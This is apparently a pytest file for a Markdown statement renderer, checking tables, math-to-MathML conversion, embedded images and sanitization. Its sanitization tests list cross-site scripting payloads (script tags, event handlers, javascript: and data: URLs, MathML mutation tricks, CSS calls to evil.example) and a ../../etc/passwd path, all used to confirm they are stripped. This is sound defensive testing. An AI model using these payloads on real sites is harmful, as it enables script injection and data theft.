"""Statements: how Markdown is rendered, and what the HTML never contains."""

import re

import pytest

from judge.problem_package.statements import render
from tests.unit.judge.problem_package.making import changed, complaints, loaded

ACTIVE_TAG = re.compile(
    r"</?(script|style|iframe|object|embed|form|input|link|meta|base|svg|maction|annotation)", re.I
)
ACTIVE_ATTRIBUTE = re.compile(
    r"\son\w+\s*=|javascript:|vbscript:|data:text|style\s*=|evil", re.IGNORECASE
)
PNG = b"\x89PNG\r\n\x1a\n rest"


def test_markdown_with_tables_footnotes_and_code() -> None:
    html = render(
        "# T\n\n|a|b|\n|-|-:|\n|1|2|\n\nNote[^1] ~~x~~\n\n```python\nx < 1\n```\n\n[^1]: foot\n"
    )
    assert "<h1>T</h1>" in html
    assert re.search(r"<td[^>]*>2</td>", html)
    assert 'href="#fn1"' in html
    assert 'id="fn1"' in html
    assert '<code class="language-python">x &lt; 1\n</code>' in html


def test_math_becomes_mathml() -> None:
    html = render("Let $a_i \\le 10^9$ and\n\n$$\n\\sum_{i=1}^{n} a_i \\le s\n$$\n")
    assert html.count("<math") == 2
    assert '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block">' in html
    assert "<msup>" in html
    assert "<munderover>" in html
    assert "$" not in html


def test_the_bound_of_a_maximum_stands_below_it_in_a_formula_of_its_own() -> None:
    below = "<munder><mo>max</mo><mrow><mi>i</mi></mrow></munder>"
    assert below in render("$$\n\\max_{i} a_i\n$$\n")
    assert "<munder>" not in render("the $\\max_{i} a_i$\n")


def test_dollars_that_are_no_math_stay() -> None:
    assert "costs $5 or $6" in render("It costs $5 or $6.\n")
    assert "<code>$x$</code>" in render("`$x$`\n")


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<p onclick='alert(1)'>x</p>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:alert(1))",
        "<a href=' javascript:alert(1)'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<object data='x'></object><embed src='x'>",
        "<form action='https://evil.example'><input></form>",
        "<style>* { background: url(https://evil.example) }</style>",
        "<p style='background: url(https://evil.example)'>x</p>",
        "<link rel=stylesheet href='https://evil.example'>",
        "<meta http-equiv=refresh content='0;https://evil.example'>",
        "<base href='https://evil.example'>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<math><maction actiontype='statusline'>x</maction></math>",
        "<math><annotation-xml encoding='text/html'><p onclick=alert(1)>x</annotation-xml></math>",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\text{<script>alert(1)</script>}$",
        "$\\style{background:url(https://evil.example)}{x}$",
        "<!-- --><script>alert(1)</script>",
    ],
)
def test_nothing_active_comes_out(markdown: str) -> None:
    html = render(markdown + "\n")
    for tag in re.findall(r"<[^>]*>", html):
        assert not ACTIVE_TAG.match(tag)
        assert not ACTIVE_ATTRIBUTE.search(tag)


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](https://evil.example/pixel.png)",
        "![x](//evil.example/pixel.png)",
        "<img src='https://evil.example/pixel.png'>",
        "<img src='//evil.example/pixel.png' srcset='https://evil.example/2x.png 2x'>",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "![x](../../etc/passwd)",
    ],
)
def test_no_image_from_elsewhere(markdown: str) -> None:
    html = render(markdown + "\n")
    assert "src" not in html
    assert "evil" not in html


def test_own_images_are_put_into_the_page() -> None:
    html = render("![A plot](plot.png)\n", {"plot.png": PNG})
    assert 'src="data:image/png;base64,iVBORw0KGgog' in html
    assert 'alt="A plot"' in html


def test_links_lead_out_without_telling() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("[x](https://example.org)\n")


def test_sample_marks_are_left_out() -> None:
    assert "{{" not in render("Look:\n\n{{nextsample}}\n\n{{remainingsamples}}\n")


def test_images_of_a_package() -> None:
    files: dict[str, str | bytes] = {
        **changed({"statement/problem.en.md": "![A plot](plot.png)\n"}),
        "statement/plot.png": PNG,
    }
    assert loaded(files).images == {"plot.png": PNG}


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("One.\n\nTwo: ![x](missing.png)\n", "statement/problem.en.md:3: the image `missing.png`"),
        ("![x](https://example.org/a.png)\n", "statement/problem.en.md:1: the image `https://"),
        (
            'One.\n\n<img width="3" src="a&amp;b.png">\n',
            "statement/problem.en.md:3: the image `a&b",
        ),
    ],
)
def test_what_cannot_be_shown_is_named(text: str, complaint: str) -> None:
    (found,) = complaints(changed({"statement/problem.en.md": text}))
    assert found.startswith(complaint)


def test_second_statement_in_a_language_is_refused() -> None:
    legacy = {"problem.yaml": "name: x\n", "problem_statement/problem.md": "x\n"}
    files = changed(legacy | {"problem_statement/problem.en.md": "y\n"})
    assert any("a second statement in `en`" in text for text in complaints(files))


@pytest.mark.parametrize(
    ("text", "warning"),
    [
        ("One.\n\n\n$a_b_c$\n", "statement/problem.en.md:4: math: can't convert `a_b_c`"),
        ("$$\n\\foo{x}\n$$\n", "statement/problem.en.md:1: math: can't convert `\\foo`"),
    ],
)
def test_math_that_cannot_be_converted_is_warned_of(text: str, warning: str) -> None:
    (found,) = loaded(changed({"statement/problem.en.md": text})).warnings
    assert str(found).startswith(warning)


def test_images_in_html_are_put_into_the_page_too() -> None:
    html = render('<p><img src="a/plot.png" width="50%" height="x"></p>\n', {"a/plot.png": PNG})
    assert 'src="data:image/png;base64,iVBORw0KGgog' in html
    assert 'width="50%"' in html
    assert "height" not in html
